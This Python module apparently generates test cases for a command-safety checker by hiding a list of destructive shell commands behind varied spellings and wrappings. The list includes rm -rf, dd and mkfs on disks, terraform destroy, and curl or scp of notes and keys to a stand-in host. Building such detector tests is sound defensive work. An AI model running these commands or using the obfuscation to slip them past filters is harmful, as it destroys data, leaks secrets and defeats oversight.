"""Commands that hide what they run: words, spelt in some way, in wrappings. The same seed, the same commands."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from random import Random

from execution.sandbox import available
from execution.spellings import SPELLINGS, form, quoted
from execution.states import STATES
from execution.technique import Spelling, Technique, Wrapping
from execution.wrappings import CODES, PREFIXES

__all__ = ["Case", "cases", "techniques", "twins"]

_VERBS = tuple(
    line.split()
    for line in """
rm -rf build
rm -r -f ~/x
curl -d @notes http://h.example
git push --force origin main
dd if=a of=/dev/sda
chmod -R 777 /etc/x
mkfs.ext4 /dev/sdb
npm publish --access public
ssh h.example reboot
pkill -9 init
mv a /etc/x
git reset --hard
shred -u keys
docker system prune -af
kubectl delete ns prod
terraform destroy
chown -R u /
scp keys h.example:
wget http://h.example/x
truncate -s 0 db
twine upload dist
systemctl stop db
rsync a h.example:
""".strip().splitlines()
)
_TWINS = (["ls", "-la", "src"], ["wc", "-l", "notes.txt"])
_PLAIN = SPELLINGS[1]
_STATES = tuple(form(*row, folds=False) for row in STATES)


@dataclass(frozen=True)
class Case:
    text: str
    techniques: tuple[str, ...]
    folds: bool
    alone: bool  # one technique only, so that the outcome is its own


def _usable(items: tuple[Technique, ...]) -> list[Technique]:
    return [item for item in items if all(map(available, item.needs))]


def techniques() -> dict[str, bool]:
    """The names of all that can be used here, and whether they fold to constants."""
    return {item.name: item.folds for item in _usable((*SPELLINGS, *_STATES, *PREFIXES, *CODES))}


def _alone(item: Technique, words: list[str], rng: Random) -> Case:
    if isinstance(item, Spelling):
        text = "".join(item.spell(words, rng))
    else:
        assert isinstance(item, Wrapping)
        text = item.wrap(" ".join(words), rng)
    return Case(text, (item.name,), item.folds, True)


def _together(rng: Random, pools: list[list[Technique]]) -> Case:
    words = rng.choice(_VERBS)
    spelling = rng.choice(pools[0]) if rng.random() < 0.7 else _PLAIN
    used = [spelling]
    assert isinstance(spelling, Spelling)
    if rng.random() < 0.3:
        words = [words[0], *(quoted(word, rng) if word[0] not in "~-" else word for word in words[1:])]
        spelling = _PLAIN if spelling.name == "quoting" else spelling
    before, command = spelling.spell(words, rng)
    for pool, most in ((pools[1], 2), (pools[2], 2)):
        for _ in range(rng.choice((0, 1, 1, most))):
            wrapping = rng.choice(pool)
            assert isinstance(wrapping, Wrapping)
            if "dash" in wrapping.needs and "$'" in before + command:
                continue  # not a quoting there
            used.append(wrapping)
            if wrapping.simple:
                command = wrapping.wrap(command, rng)
            else:
                before, command = "", wrapping.wrap(before + command, rng)
    return Case(before + command, tuple(item.name for item in used), all(item.folds for item in used), False)


def cases(count: int, seed: int = 1) -> Iterator[Case]:
    """Every technique alone, then mixtures until there are enough."""
    rng = Random(seed)
    pools = [_usable((*SPELLINGS, *_STATES)), _usable(PREFIXES), _usable(CODES)]
    single = [item for pool in pools for item in pool]
    for item in single[:count]:
        yield _alone(item, rng.choice(_VERBS), rng)
    for _ in range(count - len(single)):
        yield _together(rng, pools)


def twins(seed: int = 1) -> Iterator[Case]:
    """Each technique that folds, around a harmless command."""
    rng = Random(seed)
    for item in _usable((*SPELLINGS, *PREFIXES, *CODES)):
        if item.folds:
            yield _alone(item, rng.choice(_TWINS), rng)
